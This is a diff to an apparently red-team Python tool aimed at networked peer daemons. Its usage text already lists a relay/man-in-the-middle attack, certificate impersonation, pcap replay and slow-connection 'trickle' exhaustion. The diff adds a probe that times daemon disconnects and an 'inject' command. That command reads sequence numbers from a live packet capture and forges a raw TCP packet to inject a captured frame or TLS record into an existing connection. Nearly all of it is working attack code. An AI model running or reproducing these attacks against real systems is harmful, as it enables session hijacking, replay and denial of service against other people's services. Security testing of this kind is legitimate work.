@@ -21,9 +21,15 @@ servers.  Standard library only.
       Sit where a peer should be and answer with TLS and a certificate.
   tls12 --src ADDR TARGET
       A TLS 1.2 client (no key).
+  probe --src ADDR TARGET
+      Connect, send a byte, and say how soon the daemon closed.
   replay PCAP --src ADDR TARGET
       Send the client-to-server bytes of the largest TCP stream to TARGET
       in PCAP, as they were captured, from ADDR.
+  inject PCAP --client ADDR TARGET
+      On the path (raw socket): into the live connection from ADDR to
+      TARGET that PCAP is still capturing, at the sequence numbers it
+      expects next, inject the largest frame or TLS record ADDR sent on it.
   trickle --src ADDR[,ADDR...] TARGET --conns N --interval S --seconds S
       Keep N connections open to TARGET, each sending one byte every S
       seconds; a closed one is reopened after S seconds.
@@ -142,6 +148,9 @@ def cmd_relay(a):
     sa = connect(a.src, a.a)
     sb = connect(a.src, a.b)
     log("connected to A %s and B %s from %s" % (a.a, a.b, a.src))
+    # Both at once, within 2 s: the daemons wait for no one for long.
+    sa.settimeout(2)
+    sb.settimeout(0.1)
     ha, hb = read_frame(sa), read_frame(sb)
     if ha is None or hb is None or ha[1] != V1_HELLO or hb[1] != V1_HELLO:
         log("no version-1 HELLO from %s: the handshake is not the one "
@@ -157,6 +166,8 @@ def cmd_relay(a):
         sb.close()
         log("relay: attack failed")
         return 0
+    sa.settimeout(3)
+    sb.settimeout(3)
     ida, na = parse_hello(ha[2])
     idb, nb = parse_hello(hb[2])
     log("A is %s, B is %s" % (ida, idb))
@@ -290,6 +301,22 @@ def cmd_tls12(a):
     return 0
 
 
+def cmd_probe(a):
+    t0 = time.time()
+    try:
+        s = connect(a.src, a.target)
+        s.sendall(b"\x16")
+        s.settimeout(a.seconds)
+        d = s.recv(4096)
+        how = "closed" if not d else "answered %d bytes" % len(d)
+    except socket.timeout:
+        how = "still open"
+    except OSError as e:
+        how = "closed (%s)" % e.strerror
+    log("probe: %s after %d ms" % (how, (time.time() - t0) * 1000))
+    return 0
+
+
 # --- pcap -------------------------------------------------------------
 
 def pcap_streams(path):
@@ -337,6 +364,115 @@ def pcap_streams(path):
         if payload:
             streams.setdefault(k, {})[seq] = payload
     return streams, isn
+
+
+def pcap_packets(path):
+    """Every IPv4 TCP packet: (src, sport, dst, dport, seq, ack, flags,
+    window, options, payload)."""
+    data = open(path, "rb").read()
+    e = "<" if struct.unpack("<I", data[:4])[0] in (0xa1b2c3d4,
+                                                   0xa1b23c4d) else ">"
+    linktype = struct.unpack(e + "I", data[20:24])[0]
+    off, out = 24, []
+    while off + 16 <= len(data):
+        incl = struct.unpack(e + "I", data[off + 8:off + 12])[0]
+        pkt = data[off + 16:off + 16 + incl]
+        off += 16 + incl
+        if linktype == 1 and pkt[12:14] == b"\x08\x00":
+            ip = pkt[14:]
+        elif linktype == 113 and pkt[14:16] == b"\x08\x00":
+            ip = pkt[16:]
+        elif linktype in (12, 101):
+            ip = pkt
+        else:
+            continue
+        if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 6:
+            continue
+        ihl = (ip[0] & 15) * 4
+        tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
+        if len(tcp) < 20:
+            continue
+        sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
+        doff = (tcp[12] >> 4) * 4
+        win = struct.unpack("!H", tcp[14:16])[0]
+        out.append((socket.inet_ntoa(ip[12:16]), sport,
+                    socket.inet_ntoa(ip[16:20]), dport, seq, ack, tcp[13],
+                    win, tcp[20:doff], tcp[doff:]))
+    return out
+
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def cmd_inject(a):
+    host, port = hostport(a.target)
+    pk = pcap_packets(a.pcap)
+    # The live connections: a SYN, no FIN or RST either way.
+    conns = {}
+    for p in pk:
+        if p[0] == a.client and p[2] == host and p[3] == port:
+            k = p[1]
+        elif p[0] == host and p[1] == port and p[2] == a.client:
+            k = p[3]
+        else:
+            continue
+        if p[6] & 0x02 and p[0] == a.client:
+            conns[k] = True
+        if p[6] & 0x05 and k in conns:
+            conns[k] = False
+    live = [k for k, v in conns.items() if v]
+    if not live:
+        log("inject: no live connection from %s to %s" % (a.client,
+                                                          a.target))
+        return 1
+    cport = live[-1]
+    up = [p for p in pk if p[0] == a.client and p[1] == cport]
+    down = [p for p in pk if p[0] == host and p[2] == a.client and
+            p[3] == cport]
+
+    def after(p):			# the sequence number after p
+        n = len(p[9]) + (1 if p[6] & 0x03 else 0)
+        return (p[4] + n) & 0xffffffff
+
+    def latest(ps):
+        v = after(ps[0])
+        for p in ps[1:]:
+            if ((after(p) - v) & 0xffffffff) < 0x80000000:
+                v = after(p)
+        return v
+    seq, ack = latest(up), latest(down)
+    last = up[-1]
+    # A whole frame (version 1, in clear) or TLS application data.
+    cands = [p[9] for p in up if p[9][:2] == b"HD" or
+             p[9][:3] == b"\x17\x03\x03"]
+    if not cands:
+        log("inject: nothing to replay")
+        return 1
+    data = max(cands, key=len)
+    opts = last[8]
+    tcp = struct.pack("!HHIIBBHHH", cport, port, seq, ack,
+                      (20 + len(opts)) // 4 << 4, 0x18, last[7], 0, 0)
+    tcp += opts + data
+    src, dst = socket.inet_aton(a.client), socket.inet_aton(host)
+    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
+                     int.from_bytes(os.urandom(2), "big"), 0x4000, 64, 6, 0,
+                     src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    s.sendto(ip + tcp, (host, 0))
+    log("inject: %d bytes into %s:%d > %s at seq %u ack %u (%s)"
+        % (len(data), a.client, cport, a.target, seq, ack,
+           "a frame in clear" if data[:2] == b"HD" else "a TLS record"))
+    return 0
 
 
 def cmd_replay(a):
@@ -501,8 +637,16 @@ def main():
     q = sub.add_parser("tls12")
     q.add_argument("--src", required=True)
     q.add_argument("target")
+    q = sub.add_parser("probe")
+    q.add_argument("--src", required=True)
+    q.add_argument("--seconds", type=float, default=3)
+    q.add_argument("target")
     q = sub.add_parser("replay")
     q.add_argument("--src", required=True)
+    q.add_argument("pcap")
+    q.add_argument("target")
+    q = sub.add_parser("inject")
+    q.add_argument("--client", required=True)
     q.add_argument("pcap")
     q.add_argument("target")
     q = sub.add_parser("trickle")
